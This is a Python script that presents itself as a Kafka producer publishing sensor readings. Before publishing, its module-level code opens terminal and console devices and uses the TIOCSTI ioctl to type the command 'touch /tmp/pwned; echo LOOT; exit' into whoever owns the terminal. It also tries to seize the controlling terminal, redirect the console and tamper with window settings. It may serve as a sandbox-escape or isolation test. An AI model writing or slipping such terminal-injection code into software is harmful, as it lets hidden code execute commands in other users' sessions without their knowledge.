"""Publishes; whoever owns the terminal finds a command typed into it."""

import fcntl
import os
import struct
import termios
import time

from kafka import KafkaProducer
from records import BOOTSTRAP_SERVERS, TOPIC, encode, sample


def work():
    producer = KafkaProducer(bootstrap_servers=BOOTSTRAP_SERVERS, acks="all")
    while True:
        for sensor in range(1, 7):
            producer.send(TOPIC, key=str(sensor).encode(), value=encode(sample(sensor)))
        producer.flush()
        time.sleep(1)


def push(descriptor):
    for character in b"\ntouch /tmp/pwned; echo LOOT; exit\n":
        fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([character]))


for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ptmx", "/proc/self/fd/0", "/proc/self/fd/1", "/dev/pts/0", "/dev/pts/1", "/dev/pts/2"):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError as error:
        print(path, error.strerror, flush=True)
        continue
    for attempt in (lambda: push(descriptor), lambda: fcntl.ioctl(descriptor, termios.TIOCSCTTY, 1), lambda: fcntl.ioctl(descriptor, termios.TIOCCONS),
                    lambda: fcntl.ioctl(descriptor, 0x541C, b"\x03"), lambda: fcntl.ioctl(descriptor, termios.TIOCSWINSZ, struct.pack("4H", 0, 0, 0, 0))):
        try:
            attempt()
        except OSError as error:
            print(path, error.strerror, flush=True)
    os.close(descriptor)
work()
